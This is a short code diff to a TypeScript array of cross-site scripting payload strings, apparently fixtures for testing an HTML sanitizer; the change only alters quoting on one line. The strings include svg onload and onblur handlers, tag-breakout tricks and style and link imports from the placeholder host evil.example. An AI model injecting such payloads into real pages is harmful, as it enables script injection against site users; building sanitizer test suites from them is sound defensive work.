@@ -26,7 +26,7 @@ export const markup: readonly string[] = [
   "<style>@import'//evil.example'</style>",
   '<link rel=import href=//evil.example>',
   '<x contenteditable onblur=alert(1)>',
-  "-->'\"></a><svg onload=alert(1)>",
+  '-->\'"></a><svg onload=alert(1)>',
   '<template><svg onload=alert(1)>',
   '<xmp><svg onload=alert(1)>',
   '<noscript><p title="</noscript><svg onload=alert(1)>">',
